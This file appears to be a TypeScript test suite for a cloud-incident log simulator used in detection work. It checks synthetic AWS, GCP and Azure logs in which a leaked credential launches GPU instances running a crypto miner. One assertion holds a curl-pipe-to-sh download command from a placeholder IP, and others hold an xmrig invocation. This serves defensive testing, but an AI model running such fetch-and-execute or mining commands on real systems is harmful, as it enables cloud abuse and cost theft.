/**
 * The AWS story `simulate cloud --emit-logs` builds: every file is sniffed by the real readers as the
 * format its S3 path says and read without one bad record, the story holds what AN0744 must judge
 * (14 days of routine history, the leaked key's region and launch, its miner userData, pool lookups and
 * flows, CPU), the policy parses, times follow `end`, and the same `end` gives the same bytes.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { gunzipSync } from 'node:zlib';
import type { CoalEvent } from '../model/event.js';
import { parsePolicy } from '../run/policy.js';
import { memoryInput, readAll } from '../sources/contract.js';
import { sniffSource } from '../sources/index.js';
import { CLOUD_POLICY_FILE, type CloudStory, cloudStory } from './cloud-story.js';
import { FAKE_WALLET } from './index.js';

const END = Date.parse('2026-12-01T03:00:00Z');
const DAY = 86_400_000;
const ACCOUNT = '123456789012';

/** The format each delivery path is in, and the shape of its name, as AWS writes them. */
const LAYOUT: Array<{ path: RegExp; format: string }> = [
  {
    path: new RegExp(
      `^aws/AWSLogs/${ACCOUNT}/CloudTrail/([a-z0-9-]+)/\\d{4}/\\d{2}/\\d{2}/${ACCOUNT}_CloudTrail_\\1_\\d{8}T\\d{4}Z_[A-Za-z0-9]{16}\\.json\\.gz$`,
    ),
    format: 'cloudtrail',
  },
  {
    path: new RegExp(
      `^aws/AWSLogs/${ACCOUNT}/vpcflowlogs/([a-z0-9-]+)/\\d{4}/\\d{2}/\\d{2}/${ACCOUNT}_vpcflowlogs_\\1_fl-[0-9a-f]{17}_\\d{8}T\\d{4}Z_[0-9a-f]{8}\\.log\\.gz$`,
    ),
    format: 'vpc-flow',
  },
  {
    path: new RegExp(
      `^aws/AWSLogs/${ACCOUNT}/vpcdnsquerylogs/(vpc-[0-9a-f]{17})/\\d{4}/\\d{2}/\\d{2}/${ACCOUNT}_vpcdnsquerylogs_\\1_\\d{8}T\\d{4}Z_[0-9a-f]{8}\\.log\\.gz$`,
    ),
    format: 'route53-resolver',
  },
  {
    path: /^aws\/metric-streams\/([a-z0-9-]+)\/\d{4}\/\d{2}\/\d{2}\/\d{2}\/ec2-cpu-\1-1-\d{4}(?:-\d{2}){5}-[0-9a-f-]{36}\.gz$/,
    format: 'cloudwatch-metrics',
  },
];

/** The format each GCP sink object and Azure export blob is in, by its path, as the providers write them. */
const OTHER_LAYOUT: Array<{ path: RegExp; format: string }> = [
  {
    path: /^gcp\/cloudaudit\.googleapis\.com\/(?:activity|data_access)\/\d{4}\/\d{2}\/\d{2}\/(\d{2}):00:00_\1:59:59_S0\.json$/,
    format: 'gcp-audit',
  },
  {
    path: /^gcp\/compute\.googleapis\.com\/vpc_flows\/\d{4}\/\d{2}\/\d{2}\/(\d{2}):00:00_\1:59:59_S0\.json$/,
    format: 'gcp-flow',
  },
  { path: /^gcp\/monitoring\/cpu-utilization\/\d{4}-\d{2}-\d{2}\.json$/, format: 'gcp-monitoring' },
  {
    path: /^azure\/insights-activity-logs\/resourceId=\/SUBSCRIPTIONS\/[0-9A-F-]{36}\/y=\d{4}\/m=\d{2}\/d=\d{2}\/h=\d{2}\/m=00\/PT1H\.json$/,
    format: 'azure-activity',
  },
  {
    path: /^azure\/insights-logs-flowlogflowevent\/flowLogResourceID=\/[0-9A-F-]{36}\/NETWORKWATCHERRG\/NETWORKWATCHER_[A-Z]+\/POLICY-FLOWLOG-[A-Z0-9-]+\/y=\d{4}\/m=\d{2}\/d=\d{2}\/h=\d{2}\/m=00\/macAddress=[0-9A-F]{12}\/PT1H\.json$/,
    format: 'azure-flow',
  },
  {
    path: /^azure\/insights-metrics-pt1m\/resourceId=\/SUBSCRIPTIONS\/[0-9A-F-]{36}\/RESOURCEGROUPS\/[A-Z0-9-]+\/PROVIDERS\/MICROSOFT\.COMPUTE\/VIRTUALMACHINES\/[A-Z0-9-]+\/y=\d{4}\/m=\d{2}\/d=\d{2}\/h=\d{2}\/m=00\/PT1H\.json$/,
    format: 'azure-metrics',
  },
  { path: /^azure\/monitor\/vmss-web-percentage-cpu\.json$/, format: 'azure-metrics' },
];

interface ReadStory {
  story: CloudStory;
  /** Every event the readers gave, by format. */
  events: Map<string, CoalEvent[]>;
}

/** Sniff and read every file the way hunt does (gzip inflated first), asserting no file is bad or unread. */
async function readStory(end: number): Promise<ReadStory> {
  const story = cloudStory(end, FAKE_WALLET);
  const events = new Map<string, CoalEvent[]>();
  for (const f of story.files) {
    if (f.rel === CLOUD_POLICY_FILE) continue;
    const aws = f.rel.startsWith('aws/');
    const layout = (aws ? LAYOUT : OTHER_LAYOUT).find((l) => l.path.test(f.rel));
    assert.ok(layout, `${f.rel} is laid out as its provider writes it`);
    // S3 delivery is gzipped; a Cloud Storage sink and an Azure storage export write plain JSON
    if (aws) assert.ok(Buffer.isBuffer(f.data) && f.data[0] === 0x1f && f.data[1] === 0x8b, `${f.rel} is gzip`);
    const text = aws ? gunzipSync(f.data) : Buffer.from(f.data);
    const input = memoryInput(f.rel, text, { relPath: f.rel });
    const source = sniffSource(input);
    assert.equal(source?.name, layout.format, `${f.rel} is sniffed as ${layout.format}`);
    const { events: read, issues } = await readAll(source, input);
    assert.deepEqual(issues, [], `${f.rel}: no bad record`);
    // a trail file may hold only calls no analytic reads (Terraform's DescribeInstances): counted unused, not events
    if (layout.format === 'cloudtrail')
      assert.ok((JSON.parse(text.toString('utf8')) as { Records: unknown[] }).Records.length > 0, f.rel);
    // likewise a GCP or Azure hour of only reads (bucket listings, storage keys) is counted unused
    else if (layout.format === 'gcp-audit' || layout.format === 'azure-activity')
      assert.ok(text.toString('utf8').trim().split('\n').length > 0 && text.length > 100, f.rel);
    else assert.ok(read.length > 0, `${f.rel} holds records`);
    events.set(layout.format, [...(events.get(layout.format) ?? []), ...read]);
  }
  return { story, events };
}

const at = (e: CoalEvent) => e.coalmine.ts;

interface TrailRecord {
  eventTime: string;
  eventName: string;
  sourceIPAddress: string;
  readOnly: boolean;
  userIdentity: { accessKeyId?: string };
}

/** Every CloudTrail record the story wrote, as written. */
function trailRecords(story: CloudStory): TrailRecord[] {
  return story.files
    .filter((f) => f.rel.includes('/CloudTrail/') && Buffer.isBuffer(f.data))
    .flatMap((f) => (JSON.parse(gunzipSync(f.data).toString('utf8')) as { Records: TrailRecord[] }).Records);
}
const read = await readStory(END);

test('every file is sniffed as the format its S3 path says and read without a bad record; every format is there', () => {
  assert.deepEqual([...read.events.keys()].sort(), [
    'azure-activity',
    'azure-flow',
    'azure-metrics',
    'cloudtrail',
    'cloudwatch-metrics',
    'gcp-audit',
    'gcp-flow',
    'gcp-monitoring',
    'route53-resolver',
    'vpc-flow',
  ]);
  const rels = read.story.files.map((f) => f.rel);
  assert.equal(new Set(rels).size, rels.length, 'no file written twice');
});

test('the cloud: policy parses and approves Terraform, the render scheduler and autoscaling on each provider, requiring the ticket tag', () => {
  const text = read.story.files.find((f) => f.rel === CLOUD_POLICY_FILE)?.data;
  assert.equal(typeof text, 'string');
  const { policy, errors } = parsePolicy(CLOUD_POLICY_FILE, String(text));
  assert.deepEqual(errors, []);
  const { gcp, azure } = read.story;
  assert.deepEqual(policy.cloud?.principals, [
    'arn:aws:iam::*:role/terraform-*',
    read.story.batch.role,
    'terraform@*.iam.gserviceaccount.com',
    gcp.batch.principal,
    azure.terraform.principal,
    azure.batch.principal,
  ]);
  assert.deepEqual(policy.cloud?.services, ['autoscaling.amazonaws.com', gcp.group.service, azure.group.service]);
  assert.deepEqual(policy.cloud?.regions, ['eu-west-1', 'europe-west1', 'westeurope']);
  // lowercase: GCP labels allow no capitals, and tag globs match as written
  assert.deepEqual(policy.cloud?.tags, { 'change-ticket': 'chg-*' });
});

test('the leaked key: read-only history from its usual address, then EnableRegion and 20 GPU instances running a miner in the new region', () => {
  const trail = read.events.get('cloudtrail') ?? [];
  const k = read.story.leakedKey;
  const byKey = trail.filter((e) => e.coalmine.cloud?.principal?.id === k.principal);
  const launch = trail.find(
    (e) => e.coalmine.cloud?.operation === 'RunInstances' && e.coalmine.cloud?.principal?.id === k.principal,
  );
  assert.ok(launch, JSON.stringify(byKey.map((e) => e.coalmine.cloud)));
  const cloud = launch.coalmine.cloud;
  assert.equal(launch.cloud?.region, 'ap-southeast-3');
  assert.equal(launch.source?.ip, k.sourceIp);
  assert.equal(cloud?.principal?.accessKeyId, k.accessKeyId);
  assert.deepEqual(
    cloud?.instances?.map((i) => i.type),
    Array(20).fill('g4dn.xlarge'),
  );
  assert.deepEqual(
    cloud?.instances?.map((i) => i.id),
    k.instances,
  );
  // userData decoded by the reader: the download, then xmrig with the pool and the wallet
  assert.match(String(cloud?.userData), /curl -fsSL http:\/\/198\.51\.100\.23\/x\/install\.sh \| sh/);
  assert.ok(String(cloud?.userData).includes(`xmrig -o ${k.pool} -u ${FAKE_WALLET}`), String(cloud?.userData));
  const enable = trail.find((e) => e.coalmine.cloud?.operation === 'EnableRegion');
  assert.ok(enable && at(enable) < at(launch) && at(launch) - at(enable) < 10 * 60_000, 'EnableRegion just before');
  assert.ok(at(launch) > END - 3_600_000 && at(launch) < END, 'the launch is in the last hour');
  // before tonight the key only listed S3, nightly, from its usual address (reads no analytic uses: raw records)
  const before = trailRecords(read.story).filter(
    (r) => r.userIdentity.accessKeyId === k.accessKeyId && Date.parse(r.eventTime) < END - 3_600_000,
  );
  assert.ok(before.length >= 13, `${before.length} earlier calls`);
  for (const r of before)
    assert.deepEqual([r.eventName, r.sourceIPAddress, r.readOnly], ['ListBuckets', k.usualIp, true]);
});

test('14 days of routine launches behind the incident: Terraform, autoscaling, and the render fleet every night', () => {
  const launches = (read.events.get('cloudtrail') ?? []).filter((e) => e.coalmine.cloud?.operation === 'RunInstances');
  const first = Math.min(...launches.map(at));
  assert.ok(END - first > 13.9 * DAY, `history reaches back ${(END - first) / DAY} days`);
  const byIssuer = (role: string) => launches.filter((e) => e.coalmine.cloud?.principal?.sessionIssuer === role);
  const nights = byIssuer(read.story.batch.role);
  assert.equal(nights.length, read.story.batch.earlierNights + 1);
  for (const n of nights) assert.equal(n.coalmine.cloud?.instances?.length, 10);
  // one fleet a night: launches a day apart (within the scheduler's couple of minutes of jitter)
  const gaps = nights.slice(1).map((n, i) => at(n) - at(nights[i]));
  assert.ok(
    gaps.every((g) => Math.abs(g - DAY) < 3 * 60_000),
    JSON.stringify(gaps),
  );
  assert.ok(byIssuer(read.story.terraform.role).length >= 28);
  const asg = launches.filter((e) => e.coalmine.cloud?.principal?.invokedBy === 'autoscaling.amazonaws.com');
  assert.equal(asg.length, read.story.autoscaling.earlierLaunches + 3);
  // every night's fleet is pinned in the metric stream while it runs
  const cpu = read.events.get('cloudwatch-metrics') ?? [];
  for (const n of nights) {
    const ids = new Set(n.coalmine.cloud?.instances?.map((i) => i.id));
    const points = cpu.filter((e) => ids.has(e.cloud?.instance?.id ?? ''));
    assert.ok(points.length >= 10 * 6, `${n['@timestamp']}: ${points.length} datapoints`);
    assert.ok(points.every((e) => (e.metrics?.cpu_pct ?? 0) >= 97));
  }
});

test('the miners resolve the pool, hold flows to it and sit pinned from their first datapoint; the legitimate fleets talk elsewhere', () => {
  const k = read.story.leakedKey;
  const miners = new Set(k.instances);
  const dns = read.events.get('route53-resolver') ?? [];
  const flows = read.events.get('vpc-flow') ?? [];
  const cpu = read.events.get('cloudwatch-metrics') ?? [];
  const pool = k.pool.split(':')[0];
  const asked = new Set(dns.filter((e) => e.dns?.question?.name === pool).map((e) => e.host?.name));
  assert.deepEqual([...asked].sort(), [...miners].sort());
  const toPool = flows.filter((e) => e.destination?.port === 3333 && miners.has(e.host?.name ?? ''));
  assert.deepEqual(new Set(toPool.map((e) => e.host?.name)), miners);
  assert.ok(flows.filter((e) => !miners.has(e.host?.name ?? '')).every((e) => e.destination?.port === 443));
  for (const id of miners) {
    const points = cpu.filter((e) => e.cloud?.instance?.id === id);
    assert.ok(points.length >= 10, `${id}: ${points.length} datapoints`);
    assert.ok(points.every((e) => (e.metrics?.cpu_pct ?? 0) >= 97 && e.cloud?.region === k.region));
  }
});

test('times follow end: nothing after it, and a later end shifts every record by the same amount', async () => {
  for (const events of read.events.values()) for (const e of events) assert.ok(at(e) <= END, e['@timestamp']);
  const later = await readStory(END + 7 * DAY + 3_600_000);
  const launch = (s: ReadStory) =>
    at(
      (s.events.get('cloudtrail') ?? []).find((e) => e.coalmine.cloud?.principal?.id === s.story.leakedKey.principal) ??
        assert.fail('no launch'),
    );
  assert.equal(launch(later) - launch(read), 7 * DAY + 3_600_000);
});

test('the same end writes the same bytes', () => {
  const again = cloudStory(END, FAKE_WALLET);
  assert.deepEqual(
    again.files.map((f) => [f.rel, f.data]),
    read.story.files.map((f) => [f.rel, f.data]),
  );
});

test('GCP and Azure: the leaked credential launches 20 GPU VMs with the miner in a first-seen region; their flows reach the pool and their CPU is pinned', () => {
  for (const [provider, audit, flowFormat, metricFormat] of [
    ['gcp', 'gcp-audit', 'gcp-flow', 'gcp-monitoring'],
    ['azure', 'azure-activity', 'azure-flow', 'azure-metrics'],
  ] as const) {
    const k = read.story[provider].leakedKey;
    const launches = (read.events.get(audit) ?? []).filter(
      (e) =>
        e.coalmine.cloud?.principal?.id === k.principal &&
        /insert|virtualmachines\/write/i.test(e.coalmine.cloud?.operation ?? '') &&
        e.coalmine.cloud?.userData !== undefined,
    );
    assert.ok(launches.length > 0, `${provider}: the leaked credential's launches`);
    for (const e of launches) {
      assert.equal(e.cloud?.region, k.region, provider);
      assert.equal(e.source?.ip, k.sourceIp, provider);
      assert.ok(String(e.coalmine.cloud?.userData).includes(`xmrig -o ${k.pool} -u ${FAKE_WALLET}`), provider);
    }
    assert.equal(k.instances.length, 20);
    // the region is new: nothing launched there before tonight, and the credential made no launch before
    const earlier = (read.events.get(audit) ?? []).filter((e) => at(e) < END - 3_600_000);
    assert.ok(earlier.length > 0 && earlier.every((e) => e.cloud?.region !== k.region), provider);
    const flows = read.events.get(flowFormat) ?? [];
    assert.ok(
      flows.some((e) => e.destination?.port === 3333 || e.source?.port === 3333),
      `${provider}: flows to the pool`,
    );
    const cpu = (read.events.get(metricFormat) ?? []).filter(
      (e) => e.cloud?.region === k.region || at(e) > END - 3_600_000,
    );
    assert.ok(cpu.length >= 20 * 10, `${provider}: ${cpu.length} CPU points in the incident hour`);
    // the history reaches back 14 days on every provider
    const first = Math.min(...(read.events.get(audit) ?? []).map(at));
    assert.ok(END - first > 13.9 * DAY, `${provider}: history reaches back ${(END - first) / DAY} days`);
  }
});
